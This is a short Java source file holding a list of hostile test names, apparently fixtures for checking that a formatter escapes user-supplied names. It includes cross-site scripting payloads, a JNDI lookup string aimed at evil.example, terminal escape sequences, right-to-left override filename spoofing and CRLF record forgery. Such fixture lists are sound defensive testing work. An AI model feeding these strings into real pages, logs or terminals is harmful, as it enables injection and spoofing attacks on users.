package com.acme.formats;

import java.util.List;

/**
 * Names that would harm whoever takes them for anything but names.
 */
final class Names {

	static final List<String> HOSTILE = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
			"\"><b>bold</b>", "&lt;b&gt; &amp; &#60;", "#quot; #35; #9829;", "`**strong** _em_`", "**strong** ~~gone~~",
			"1. first", "- item", "# heading", "[link](http://evil.example)", "http://evil.example www.evil.example",
			"a@evil.example", "fa:fa-car", "$$x^2$$", "%%{init: {\"theme\":\"dark\"}}%%", "%% comment", "end",
			"graph TD; a-->b", "\"]; x[\"forged", "|\"forged\"|", "style a fill:#f00;",
			"click t1 href \"javascript:alert(1)\"", "<br/>two<br/>lines", "\u001B[2J\u001B[31m",
			"\u001B]52;c;aGk=\u0007", "a\u0000b", "\r\nforged;stack 7", "forged;stack 7", "ends in a number 7", " 7",
			"a\u2028b\u2029c", "user\u202Egnp.exe", "\u2066isolate\u2069", "half \uD83D pair", "\uDE00",
			"\uD83D\uDE00 whole", "${jndi:ldap://evil.example/x}", "C:\\new\\table\\\"", "</textarea><!--",
			"x".repeat(100_000), "\"#<".repeat(10_000), "注文 заказ طلب", "_[j]", "", " ");

	private Names() {
	}

}
